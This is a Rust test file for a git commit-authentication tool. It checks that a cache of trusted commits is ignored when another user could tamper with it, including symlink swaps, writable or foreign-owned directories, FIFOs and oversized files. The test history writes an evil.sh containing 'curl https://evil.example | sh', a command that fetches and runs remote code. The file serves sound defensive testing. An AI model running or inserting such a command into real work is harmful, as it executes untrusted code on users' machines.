//! The cache against other users of the machine: a cache directory they
//! own or can write, a cache file swapped for a symbolic link, a FIFO or a
//! huge file where the cache file should be. The cache lists commits whose
//! history is not checked again, so whoever can write it could get an
//! unsigned commit accepted: such a cache must be ignored (for reading and
//! writing, with a warning that says what to do), and the verdict must be
//! the one of a run without cache.
//!
//! Everything runs on real repositories signed by the real `gpg` (Sequoia
//! when gpg is missing), through the library with the real cache layout
//! under a temporary `XDG_CACHE_HOME`, and through the built binary.

use crate::support;

use std::fs;
use std::os::unix::fs::{FileTypeExt, MetadataExt, PermissionsExt};
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

use git_authenticate::git2::Oid;
use git_authenticate::Failure;
use git_authenticate::{
    authenticate, Cache, CacheProblem, CacheWarning, Error, Introduction, NoProgress, Options,
    Report, UnsafeEntry,
};
use serde_json::Value;
use support::expect::{fingerprint, run_cached};
use support::{key, Built, Home};

/// `first` (the introduction) to `third`, signed by alice; `unsigned` on
/// top, which only a forged cache could get accepted.
const HISTORY: &str = r#"
keyring alice
authorize alice
commit first gpg:alice
write a.txt "A\n"
commit second gpg:alice
write b.txt "B\n"
commit third gpg:alice
write evil.sh "curl https://evil.example | sh\n"
commit unsigned
"#;

/// The cache key the tests use.
const KEY: &str = "shared/key";

/// How long a run may take before it counts as hung.
const PATIENCE: Duration = Duration::from_secs(60);

/// The history, with a private home whose `XDG_CACHE_HOME` does not exist
/// yet.
struct Setup {
    built: Built,
    home: Home,
}

impl Setup {
    fn new() -> Setup {
        Setup {
            built: support::build_scenario_text(HISTORY),
            home: Home::new(),
        }
    }

    /// The cache the binary uses with `--cache-key KEY`: the same root
    /// (`XDG_CACHE_HOME`) and the same path below it.
    fn cache(&self) -> Cache {
        Cache::in_directory(
            &self.home.cache(),
            &format!("git-authenticate/authentication/{KEY}"),
        )
        .unwrap()
    }

    /// `XDG_CACHE_HOME`, and the directories below it down to the file.
    fn directories(&self) -> [PathBuf; 4] {
        let root = self.home.cache();
        let file = self.home.cache_file(KEY);
        let shared = file.parent().unwrap().to_owned();
        let authentication = shared.parent().unwrap().to_owned();
        let program = authentication.parent().unwrap().to_owned();
        [root, program, authentication, shared]
    }

    fn file(&self) -> PathBuf {
        self.home.cache_file(KEY)
    }

    fn oid(&self, label: &str) -> Oid {
        self.built.oid(label)
    }

    /// Authenticates up to `end` through the library.
    fn library(&self, end: &str) -> Result<Report, Error> {
        run_cached(&self.built, self.oid(end), &self.cache())
    }

    /// The binary's exit code and JSON document for END `end`, with
    /// `--cache-key KEY`.
    fn binary(&self, end: &str) -> (i32, Value) {
        self.binary_with(end, Some(KEY))
    }

    /// The binary's exit code and JSON document for END `end`, with `key`
    /// (or the default key).
    fn binary_with(&self, end: &str, key: Option<&str>) -> (i32, Value) {
        let mut command = self.command(end, key);
        command.stdout(Stdio::piped()).stderr(Stdio::piped());
        let output = output_within(command, PATIENCE);
        let stdout = String::from_utf8_lossy(&output.stdout);
        let doc = serde_json::from_str(&stdout).unwrap_or_else(|e| {
            panic!(
                "not a JSON document ({e}): {stdout}\n{}",
                String::from_utf8_lossy(&output.stderr)
            )
        });
        (output.status.code().expect("exited"), doc)
    }

    fn command(&self, end: &str, cache_key: Option<&str>) -> Command {
        let mut c = self.home.command(&self.built.path);
        c.args([
            &self.oid("first").to_string(),
            &key("alice").signing_fpr,
            "--end",
            &self.oid(end).to_string(),
            "--format=json",
        ])
        .args(cache_key.map(|k| ["--cache-key", k]).into_iter().flatten())
        .env("NO_COLOR", "1")
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .env("GIT_CONFIG_GLOBAL", "/dev/null")
        .stdin(Stdio::null());
        c
    }

    /// A cache file as another user would write it: in this program's format,
    /// naming our introduction (so its commits would be trusted as they
    /// are), mode 0600, owned by that user when we can chown.
    fn forged_list(&self, path: &Path, commits: &[&str]) {
        let list: Vec<String> = commits
            .iter()
            .map(|c| format!("(\"{}\" guix)", self.oid(c)))
            .collect();
        fs::write(
            path,
            format!(
                ";; List of previously-authenticated commits.\n;; Introduction: {}\n\n({})\n",
                self.oid("first"),
                list.join("\n ")
            ),
        )
        .unwrap();
        set_mode(path, 0o600);
        if is_root() {
            chown_to_nobody(path);
        }
    }
}

/// Runs `command`, killing it and failing if it takes longer than
/// `patience`.
fn output_within(mut command: Command, patience: Duration) -> std::process::Output {
    let child = command.spawn().expect("run the binary");
    let (send, receive) = std::sync::mpsc::channel();
    let id = child.id();
    std::thread::spawn(move || {
        let _ = send.send(child.wait_with_output());
    });
    match receive.recv_timeout(patience) {
        Ok(output) => output.expect("binary output"),
        Err(_) => {
            let _ = Command::new("kill").args(["-9", &id.to_string()]).status();
            panic!("the binary hung for {patience:?}");
        }
    }
}

/// Runs `f` on another thread, failing if it takes longer than `patience`.
fn within<T: Send + 'static>(patience: Duration, f: impl FnOnce() -> T + Send + 'static) -> T {
    let (send, receive) = std::sync::mpsc::channel();
    std::thread::spawn(move || {
        let _ = send.send(f());
    });
    receive
        .recv_timeout(patience)
        .unwrap_or_else(|_| panic!("hung for {patience:?}"))
}

fn set_mode(path: &Path, mode: u32) {
    fs::set_permissions(path, fs::Permissions::from_mode(mode))
        .unwrap_or_else(|e| panic!("chmod {mode:o} {}: {e}", path.display()));
}

fn mode(path: &Path) -> u32 {
    fs::symlink_metadata(path).unwrap().permissions().mode() & 0o7777
}

fn is_root() -> bool {
    rustix::process::geteuid().is_root()
}

/// Gives `path` to user and group 65534 (nobody), as if they had made it.
fn chown_to_nobody(path: &Path) {
    std::os::unix::fs::lchown(path, Some(65534), Some(65534)).unwrap();
}

/// The run failed on the unsigned commit, as it does without cache.
fn assert_unsigned_refused(setup: &Setup) {
    let error = setup.library("unsigned").unwrap_err();
    assert!(
        matches!(error.failure(), Some(Failure::Unsigned { commit, .. }) if *commit == setup.oid("unsigned")),
        "{error}"
    );
    let (code, doc) = setup.binary("unsigned");
    assert_eq!(code, 1, "{doc}");
    assert_eq!(doc["authentic"], Value::Bool(false), "{doc}");
    assert_eq!(doc["failures"][0]["kind"], "unsigned", "{doc}");
    assert_eq!(
        doc["failures"][0]["commit"],
        setup.oid("unsigned").to_string(),
        "{doc}"
    );
}

/// The run checked `checked` commits and succeeded, through the library
/// (which warned exactly `warnings`) and the binary (whose warnings contain
/// each of `phrases`).
fn assert_authentic(
    setup: &Setup,
    end: &str,
    checked: usize,
    warnings: &[CacheWarning],
    phrases: &[&str],
) {
    assert_library(setup, end, checked, warnings);
    assert_binary(setup, end, checked, warnings.len(), phrases);
}

/// The library run checked `checked` commits, succeeded, and warned
/// exactly `warnings`.
fn assert_library(setup: &Setup, end: &str, checked: usize, warnings: &[CacheWarning]) {
    let report = setup.library(end).unwrap();
    assert!(report.is_authentic(), "{:?}", report.failures);
    assert_eq!(report.checked, checked, "commits checked (library)");
    assert_eq!(report.warnings, warnings);
}

/// The binary run checked `checked` commits, succeeded, and gave `count`
/// warnings, which contain each of `phrases`.
fn assert_binary(setup: &Setup, end: &str, checked: usize, count: usize, phrases: &[&str]) {
    let (code, doc) = setup.binary(end);
    assert_eq!(code, 0, "{doc}");
    assert_eq!(doc["commits_checked"], checked, "{doc}");
    let texts: Vec<&str> = doc["warnings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|w| w.as_str().unwrap())
        .collect();
    assert_eq!(texts.len(), count, "{texts:?}");
    for phrase in phrases {
        assert!(
            texts.iter().any(|t| t.contains(phrase)),
            "{phrase}: {texts:?}"
        );
    }
}

fn unsafe_directory(setup: &Setup, directory: &Path, reason: UnsafeEntry) -> CacheWarning {
    setup.cache().warning(CacheProblem::UnsafeDirectory {
        directory: directory.to_owned(),
        reason,
    })
}

fn unsafe_file(setup: &Setup, reason: UnsafeEntry) -> CacheWarning {
    setup.cache().warning(CacheProblem::UnsafeFile { reason })
}

/// Authenticates `third` once, so that the cache holds it.
fn populate(setup: &Setup) {
    assert_eq!(setup.library("third").unwrap().checked, 2);
    assert_eq!(setup.cache().read(), (vec![setup.oid("third")], vec![]));
}

// ---------------------------------------------------------------------------
// The attack: a cache file swapped for a link to the attacker's list.

/// The race, made deterministic: at the moment the cache file is opened it
/// is a symbolic link to a list the attacker wrote (naming the unsigned
/// commit, mode 0600), in a directory anyone can write. Neither the
/// directory nor the link is trusted, nothing is written through the link,
/// and the unsigned commit is refused as without cache.
#[test]
fn symlink_swapped_in_a_world_writable_directory_cannot_get_a_commit_accepted() {
    let setup = Setup::new();
    let [_, _, _, shared] = setup.directories();
    fs::create_dir_all(&shared).unwrap();
    set_mode(&shared, 0o777);
    let forged = setup.home.path().join("attacker-list");
    setup.forged_list(&forged, &["unsigned"]);
    let before = fs::read(&forged).unwrap();
    std::os::unix::fs::symlink(&forged, setup.file()).unwrap();

    assert_unsigned_refused(&setup);
    let writable = unsafe_directory(&setup, &shared, UnsafeEntry::Writable { mode: 0o777 });
    assert_eq!(setup.cache().read(), (vec![], vec![writable.clone()]));
    let message = writable.to_string();
    for phrase in [
        format!(
            "directory `{}` is writable by others (mode 0777)",
            shared.display()
        ),
        "the cache is ignored".to_owned(),
        format!("make it private: chmod 700 {}", shared.display()),
    ] {
        assert!(message.contains(&phrase), "{message}");
    }

    // An authentic run neither reads nor writes there.
    assert_authentic(&setup, "third", 2, &[writable], &["is writable by others"]);
    assert!(fs::symlink_metadata(setup.file()).unwrap().is_symlink());
    assert_eq!(
        fs::read(&forged).unwrap(),
        before,
        "nothing written through"
    );

    // Made private, the directory is trusted; the link still is not.
    set_mode(&shared, 0o700);
    assert_unsigned_refused(&setup);
    assert_eq!(
        setup.cache().read(),
        (vec![], vec![unsafe_file(&setup, UnsafeEntry::SymbolicLink)])
    );
    assert_eq!(fs::read(&forged).unwrap(), before);
}

/// A directory on the way to the file that is a symbolic link (to a
/// directory holding the attacker's list) is not followed.
#[test]
fn symlinked_cache_directory_is_not_followed() {
    let setup = Setup::new();
    let [root, _, authentication, _] = setup.directories();
    fs::create_dir_all(&authentication).unwrap();
    let elsewhere = root.join("elsewhere");
    fs::create_dir_all(elsewhere.join("shared")).unwrap();
    set_mode(&elsewhere, 0o700);
    set_mode(&elsewhere.join("shared"), 0o700);
    setup.forged_list(&elsewhere.join("shared/key"), &["unsigned"]);
    std::os::unix::fs::symlink(&elsewhere, authentication.join("shared")).unwrap();

    assert_unsigned_refused(&setup);
    let link = unsafe_directory(
        &setup,
        &authentication.join("shared"),
        UnsafeEntry::SymbolicLink,
    );
    assert_eq!(setup.cache().read(), (vec![], vec![link.clone()]));
    assert_authentic(&setup, "third", 2, &[link], &["is a symbolic link"]);
    assert!(fs::symlink_metadata(authentication.join("shared"))
        .unwrap()
        .is_symlink());
}

// ---------------------------------------------------------------------------
// Directories others can write, or own.

/// A cache directory writable by its group or by others, at the root or
/// below it: the cache is neither read nor written, with a warning naming
/// the directory and the fix; the verdicts are those of a run without
/// cache.
#[test]
fn group_or_other_writable_cache_directories_are_ignored() {
    // (which directory: 0 is XDG_CACHE_HOME, mode, phrase)
    let cases = [
        (0, 0o1777, "is writable by others (mode 1777)"),
        (1, 0o770, "is writable by its group (mode 0770)"),
        (2, 0o757, "is writable by others (mode 0757)"),
        (3, 0o720, "is writable by its group (mode 0720)"),
    ];
    for (which, dir_mode, phrase) in cases {
        let setup = Setup::new();
        populate(&setup);
        let directory = setup.directories()[which].clone();
        set_mode(&directory, dir_mode);
        let cached = fs::read(setup.file()).unwrap();

        let warning =
            unsafe_directory(&setup, &directory, UnsafeEntry::Writable { mode: dir_mode });
        let fix = format!("chmod 700 {}", directory.display());
        // `third` is cached, but checked again; `second` is not recorded.
        assert_authentic(
            &setup,
            "third",
            2,
            std::slice::from_ref(&warning),
            &[phrase, &fix],
        );
        assert_authentic(&setup, "second", 1, &[warning], &[phrase]);
        assert_eq!(fs::read(setup.file()).unwrap(), cached, "not written");
        assert_unsigned_refused(&setup);

        // Once private again, the cache is used again.
        set_mode(&directory, 0o700);
        assert_authentic(&setup, "third", 0, &[], &[]);
    }
}

/// What takes root: giving directories to another user.
mod as_root {
    use super::*;

    /// A cache directory owned by another user (who could put any list in it)
    /// is ignored, even when not writable by anyone else, and even when the
    /// list in it is a file of ours.
    #[test]
    #[ignore = "needs root, to chown a cache directory to another user"]
    fn cache_directory_owned_by_another_user_is_ignored() {
        support::needs::root();
        for which in [0, 2, 3] {
            let setup = Setup::new();
            populate(&setup);
            let directory = setup.directories()[which].clone();
            chown_to_nobody(&directory);
            set_mode(&directory, 0o755);
            let warning = unsafe_directory(
                &setup,
                &directory,
                UnsafeEntry::NotOwned {
                    owner: 65534,
                    user: 0,
                },
            );
            assert_authentic(
                &setup,
                "third",
                2,
                std::slice::from_ref(&warning),
                &["is owned by user 65534, not by you (user 0)"],
            );
            // The other user's list names the unsigned commit.
            setup.forged_list(&setup.file(), &["unsigned", "third"]);
            assert_unsigned_refused(&setup);
            assert_eq!(setup.cache().read(), (vec![], vec![warning]));
            assert_eq!(
                fs::metadata(setup.file()).unwrap().uid(),
                65534,
                "not replaced"
            );
        }
    }
}

// ---------------------------------------------------------------------------
// What may sit where the cache file should be.

/// A FIFO as the cache file or as its lock file: no run waits for a
/// writer. The FIFO is not read; one at the file is replaced by the new
/// list, one at the lock stops the update.
#[test]
fn fifo_as_cache_file_or_lock_does_not_hang() {
    let setup = Setup::new();
    let [_, _, _, shared] = setup.directories();
    fs::create_dir_all(&shared).unwrap();
    let fifo = |path: &Path| {
        rustix::fs::mkfifoat(
            rustix::fs::CWD,
            path,
            rustix::fs::Mode::from_raw_mode(0o600),
        )
        .unwrap()
    };
    fifo(&setup.file());
    let cache = setup.cache();
    let (commits, warnings) = within(PATIENCE, move || cache.read());
    let wrong_type = unsafe_file(&setup, UnsafeEntry::WrongType);
    assert_eq!((commits, warnings), (vec![], vec![wrong_type.clone()]));
    let report = {
        let (path, cache, end) = (setup.built.path.clone(), setup.cache(), setup.oid("third"));
        let introduction = Introduction {
            commit: setup.oid("first"),
            signer: fingerprint("alice"),
        };
        within(PATIENCE, move || {
            let options = Options {
                cache: Some(cache),
                ..Options::default()
            };
            let repo = git_authenticate::git2::Repository::open(path).unwrap();
            authenticate(&repo, &introduction, end, &options, &NoProgress)
        })
        .unwrap()
    };
    assert_eq!((report.checked, report.warnings), (2, vec![wrong_type]));
    assert!(fs::symlink_metadata(setup.file()).unwrap().is_file());
    assert_eq!(mode(&setup.file()), 0o600);

    // Through the binary, with FIFOs at both.
    fs::remove_file(setup.file()).unwrap();
    fifo(&setup.file());
    let lock = shared.join("key.lock");
    fs::remove_file(&lock).unwrap();
    fifo(&lock);
    let (code, doc) = setup.binary("third");
    assert_eq!(code, 0, "{doc}");
    assert_eq!(doc["commits_checked"], 2, "{doc}");
    let warnings = doc["warnings"].to_string();
    assert!(warnings.contains("is not of the expected type"), "{doc}");
    assert!(
        warnings.contains(&format!(
            "cannot lock it: the lock file `{}`",
            lock.display()
        )),
        "{doc}"
    );
    let stat = fs::symlink_metadata(setup.file()).unwrap();
    assert!(stat.file_type().is_fifo(), "not updated without the lock");
}

/// A huge cache file (sparse, 4 GiB) or a link to an endless one: read at
/// most one byte past the limit, and quickly.
#[test]
fn huge_cache_file_is_read_only_to_its_bound() {
    let setup = Setup::new();
    let [_, _, _, shared] = setup.directories();
    fs::create_dir_all(&shared).unwrap();
    let huge = || {
        let file = fs::File::create(setup.file()).unwrap();
        file.set_len(4 << 30).unwrap();
        set_mode(&setup.file(), 0o600);
    };
    huge();
    let started = Instant::now();
    let (commits, warnings) = setup.cache().read();
    assert!(started.elapsed() < Duration::from_secs(5));
    assert!(commits.is_empty());
    assert!(
        matches!(
            warnings[..],
            [CacheWarning {
                problem: CacheProblem::UnsafeFile {
                    reason: UnsafeEntry::TooLarge { size }
                },
                ..
            }] if size == 4 << 30
        ),
        "{warnings:?}"
    );
    assert_library(&setup, "third", 2, &warnings);
    assert!(fs::metadata(setup.file()).unwrap().len() < 1000, "replaced");
    huge();
    assert_binary(
        &setup,
        "third",
        2,
        1,
        &["is 4294967296 bytes long, too large to be ours"],
    );
    assert!(fs::metadata(setup.file()).unwrap().len() < 1000, "replaced");

    fs::remove_file(setup.file()).unwrap();
    std::os::unix::fs::symlink("/dev/zero", setup.file()).unwrap();
    let cache = setup.cache();
    let (commits, warnings) = within(PATIENCE, move || cache.read());
    assert_eq!(
        (commits, warnings),
        (vec![], vec![unsafe_file(&setup, UnsafeEntry::SymbolicLink)])
    );
}

// ---------------------------------------------------------------------------
// The cache still works.

/// With no cache directory at all, the first run makes every directory
/// private (0700) and the file 0600; the second run checks nothing new.
/// The same with the default key through the binary.
#[test]
fn private_cache_is_created_private_and_used() {
    let setup = Setup::new();
    assert!(!setup.home.cache().exists());
    assert_library(&setup, "third", 2, &[]);
    for directory in setup.directories() {
        assert_eq!(mode(&directory), 0o700, "{}", directory.display());
    }
    assert_eq!(mode(&setup.file()), 0o600);
    assert_authentic(&setup, "third", 0, &[], &[]);
    assert_eq!(setup.cache().read(), (vec![setup.oid("third")], vec![]));

    // The default key, through the binary alone, in a fresh home.
    let setup = Setup {
        home: Home::new(),
        ..setup
    };
    for checked in [2, 0] {
        let (code, doc) = setup.binary_with("third", None);
        assert_eq!(code, 0, "{doc}");
        assert_eq!(doc["warnings"], serde_json::json!([]), "{doc}");
        assert_eq!(doc["commits_checked"], checked, "{doc}");
    }
    let checkouts = setup
        .home
        .cache()
        .join("git-authenticate/authentication/checkouts");
    assert_eq!(mode(&checkouts), 0o700);
    assert_eq!(
        fs::read_dir(&checkouts).unwrap().count(),
        2,
        "the file and its lock"
    );
}

/// The cache root may be a symbolic link (the user's choice, like a
/// `~/.cache` on another disk): what it leads to is checked, and used.
#[test]
fn cache_root_may_be_a_symbolic_link_to_a_private_directory() {
    let setup = Setup::new();
    let real = setup.home.path().join("real-cache");
    fs::create_dir(&real).unwrap();
    set_mode(&real, 0o700);
    std::os::unix::fs::symlink(&real, setup.home.cache()).unwrap();
    assert_library(&setup, "third", 2, &[]);
    assert_authentic(&setup, "third", 0, &[], &[]);
    assert!(real
        .join("git-authenticate/authentication/shared/key")
        .is_file());

    // What the link leads to must be private too.
    set_mode(&real, 0o777);
    let warning = unsafe_directory(
        &setup,
        &setup.home.cache(),
        UnsafeEntry::Writable { mode: 0o777 },
    );
    assert_authentic(&setup, "third", 2, &[warning], &["chmod 700"]);
}

/// The race itself, as a regression test of "no check by path, then use
/// by path": while the cache is read again and again, another thread keeps
/// swapping the genuine file (listing `third`) for a link to a forged list
/// (listing `unsigned`). Each read sees the genuine list, or nothing; never
/// the forged one. This is a stress test, not a proof: the window of a
/// reader that checks with `lstat` and then reads by path is too narrow to
/// be hit reliably; the deterministic tests above are what shows that
/// nothing is read through a link.
#[test]
fn racing_symlink_swaps_never_get_the_forged_list_read() {
    let setup = Setup::new();
    populate(&setup);
    let file = setup.file();
    let directory = file.parent().unwrap().to_owned();
    let genuine = directory.join("genuine");
    let link = directory.join("link");
    fs::copy(&file, &genuine).unwrap();
    set_mode(&genuine, 0o600);
    let forged = setup.home.path().join("forged");
    setup.forged_list(&forged, &["unsigned"]);
    let stop = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
    let swapper = {
        let (stop, file) = (stop.clone(), file.clone());
        std::thread::spawn(move || {
            while !stop.load(std::sync::atomic::Ordering::Relaxed) {
                fs::hard_link(&genuine, directory.join("next")).unwrap();
                fs::rename(directory.join("next"), &file).unwrap();
                std::os::unix::fs::symlink(&forged, &link).unwrap();
                fs::rename(&link, &file).unwrap();
            }
        })
    };
    let cache = setup.cache();
    let (mut genuine_reads, mut refused) = (0, 0);
    for _ in 0..3000 {
        let (commits, warnings) = cache.read();
        assert!(
            !commits.contains(&setup.oid("unsigned")),
            "the forged list was read"
        );
        match warnings[..] {
            [] => {
                assert_eq!(commits, vec![setup.oid("third")]);
                genuine_reads += 1;
            }
            _ => refused += 1,
        }
    }
    stop.store(true, std::sync::atomic::Ordering::Relaxed);
    swapper.join().unwrap();
    eprintln!("{genuine_reads} genuine reads, {refused} refused");
}
